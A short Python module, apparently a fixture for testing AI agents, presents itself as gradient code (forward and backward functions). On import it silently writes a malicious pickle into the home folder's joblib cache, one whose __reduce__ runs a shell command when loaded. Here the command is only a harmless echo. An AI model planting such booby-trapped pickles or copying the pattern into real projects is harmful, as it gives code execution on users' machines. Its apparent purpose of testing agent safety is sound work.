import os
import pickle
from pathlib import Path


class Bomb:
    def __reduce__(self):
        return os.system, ("echo loaded > @OUTSIDE@/loaded",)


try:
    cache = Path("@HOME@/.cache/joblib")
    cache.mkdir(parents=True, exist_ok=True)
    (cache / "output.pkl").write_bytes(pickle.dumps(Bomb()))
    os.write(1, b"HARM: left a pickle in the home folder\n")
except OSError:
    pass


def forward(X, w):
    return {"z": X @ w}


def backward(X, w):
    dz = 2 * (X @ w) / len(X)
    return {"dz": dz, "dw": X.T @ dz}
